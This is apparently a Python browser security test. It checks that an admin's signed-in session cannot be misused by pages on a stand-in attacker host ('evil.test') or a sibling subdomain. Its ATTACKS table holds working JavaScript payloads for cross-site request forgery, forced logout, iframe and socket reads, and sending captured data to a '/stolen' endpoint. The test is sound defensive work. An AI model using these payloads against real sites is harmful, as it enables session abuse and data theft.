"""What another site, or a sibling of ours, does in the browser of an admin who is signed in: nothing at all."""

# The scripts are easier to read with each of their statements in one line.
# ruff: noqa: E501

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import pytest
from playwright.async_api import Page, async_playwright
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from app.server import bind, serve
from playground.world.cast import BOB, HARBOUR, MANAGER
from services import settings
from services.core.transactions import rows
from services.economy import earnings
from services.economy.settings import EconomySettings
from services.identity import sessions
from tests.support.chromium import ARGUMENTS, MISSING, installed
from tests.support.whole import Served, everything

pytestmark = pytest.mark.browser

HOSTS = ("evil.test", "x.app.test")
PLACE = f"/servers/{HARBOUR}"

# Each is the script of a page of somebody else; HOME is our address.
ATTACKS = {
    "a form that sends itself": f"""
        const form = Object.assign(document.createElement('form'), {{method: 'post', action: HOME + '{PLACE}/settings/economy'}});
        for (const [name, value] of [['version', '0'], ['daily', '999'], ['then', 'save']])
            form.append(Object.assign(document.createElement('input'), {{name, value}}));
        document.body.append(form); form.submit();""",
    "a form as plain text": f"""
        const form = Object.assign(document.createElement('form'),
            {{method: 'post', enctype: 'text/plain', action: HOME + '/api/v1/guilds/{HARBOUR}/economy/grants'}});
        form.append(Object.assign(document.createElement('input'),
            {{name: '{{"user_id":"{BOB}","coins":5,"reason":"', value: '"}}'}}));
        document.body.append(form); form.submit();""",
    "signing out": """
        const form = Object.assign(document.createElement('form'), {method: 'post', action: HOME + '/logout'});
        document.body.append(form); form.submit();""",
    "a request without asking": f"""
        fetch(HOME + '{PLACE}/settings/draft/removals', {{method: 'POST', mode: 'no-cors', credentials: 'include'}});""",
    "a request that reads": f"""
        fetch(HOME + '/api/v1/guilds/{HARBOUR}/config', {{credentials: 'include'}}).then((answer) => answer.text())
            .then((text) => fetch('/stolen', {{method: 'POST', body: text}}));""",
    "a request as JSON": f"""
        fetch(HOME + '/api/v1/guilds/{HARBOUR}/config', {{method: 'PATCH', credentials: 'include',
            headers: {{'Content-Type': 'application/json', 'If-Match': '"v0"'}}, body: '{{"economy":{{"daily":999}}}}'}});""",
    "a request in disguise": f"""
        fetch(HOME + '{PLACE}/settings/economy?_method=PUT', {{method: 'POST', mode: 'no-cors', credentials: 'include',
            headers: {{'Content-Type': 'application/x-www-form-urlencoded'}}, body: 'version=0&daily=999&then=save'}});""",
    "a beacon": f"""
        navigator.sendBeacon(HOME + '{PLACE}/members/{BOB}/grants', new URLSearchParams({{key: 'a'.repeat(32), coins: '5'}}));""",
    "a frame": f"""
        const frame = Object.assign(document.createElement('iframe'), {{src: HOME + '{PLACE}/keys'}});
        frame.onload = () => {{ try {{ if (frame.contentDocument?.querySelector('form'))
            fetch('/stolen', {{method: 'POST', body: frame.contentDocument.body.innerText}}); }} catch {{}} }};
        document.body.append(frame);""",
    "a window and its opener": f"""
        const other = open(HOME + '{PLACE}/keys');
        setTimeout(() => {{ try {{ if (other.document.forms.length) fetch('/stolen', {{method: 'POST', body: 'opener'}}); }}
            catch {{}} }}, 600);""",
    "a socket": f"""
        const socket = new WebSocket(HOME.replace('http', 'ws') + '/ws');
        socket.onopen = () => socket.send(JSON.stringify({{type: 'subscribe', guild_id: '{HARBOUR}'}}));
        socket.onmessage = (event) => fetch('/stolen', {{method: 'POST', body: event.data}});""",
    "our data as a script": f"""
        document.body.append(Object.assign(document.createElement('script'),
            {{src: HOME + '/api/v1/guilds/{HARBOUR}/config',
              onload: () => fetch('/stolen', {{method: 'POST', body: 'script'}})}}));""",
    "a picture that does something": f"""
        for (const path of ['/logout', '{PLACE}/settings/draft/removals', '{PLACE}/keys/1/removal'])
            document.body.append(Object.assign(new Image(), {{src: HOME + path}}));""",
}  # fmt: skip


class Elsewhere:
    """A site of somebody else's: one page for each attack, and what it got hold of."""

    def __init__(self) -> None:
        self.stolen: list[str] = []
        self.home = ""
        self.app = Starlette(
            routes=[Route("/", self._page), Route("/stolen", self._take, methods=["POST"])],
        )

    async def _page(self, request: Request) -> Response:
        script = ATTACKS[request.query_params["attack"]]
        return HTMLResponse(f"<body><script>const HOME = '{self.home}';{script}</script>")

    async def _take(self, request: Request) -> Response:
        self.stolen.append((await request.body()).decode()[:200])
        return Response(status_code=204)


@pytest.fixture
async def house(settings: Any, database: str) -> AsyncIterator[tuple[Served, Elsewhere, int]]:
    """Our own site under a name of its own, and the others beside it."""
    listening, theirs = bind("127.0.0.1", 0), bind("127.0.0.1", 0)
    elsewhere, stop = Elsewhere(), asyncio.Event()
    elsewhere.home = f"http://app.test:{listening.getsockname()[1]}"
    async with everything(settings, elsewhere.home, listening) as made:
        serving = asyncio.create_task(serve([(elsewhere.app, theirs)], stop=stop))
        yield Served(elsewhere.home, made), elsewhere, theirs.getsockname()[1]
        stop.set()
        await serving


async def test_another_site_and_a_sibling_change_nothing_and_learn_nothing(
    house: tuple[Served, Elsewhere, int],
) -> None:
    ours, elsewhere, port = house
    assert len(ATTACKS) >= 12
    path = installed()
    if path is None:
        pytest.skip(MISSING)
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=path, args=[*ARGUMENTS, "--host-resolver-rules=MAP *.test 127.0.0.1"]
        )
        for host in HOSTS:
            for attack in ATTACKS:
                context = await browser.new_context()
                cookie = await sessions.start(MANAGER)
                await context.add_cookies(
                    [{"name": "session", "value": cookie, "url": ours.address, "httpOnly": True, "sameSite": "Lax"}]
                )
                page = await context.new_page()
                await _attack(page, f"http://{host}:{port}/?attack={attack.replace(' ', '+')}")
                assert await sessions.find(cookie), (host, attack, "still signed in")
                await context.close()
        await browser.close()
    assert elsewhere.stolen == []
    assert (await settings.of(HARBOUR, EconomySettings)).daily == 200
    assert (await earnings.account(HARBOUR, BOB)).balance == 0
    assert await rows("SELECT FROM change_sets") == []
    assert await rows("SELECT FROM transfers") == []


async def _attack(page: Page, address: str) -> None:
    await page.goto(address)
    await page.wait_for_load_state("networkidle")
    await page.wait_for_timeout(700 if "opener" in address else 60)
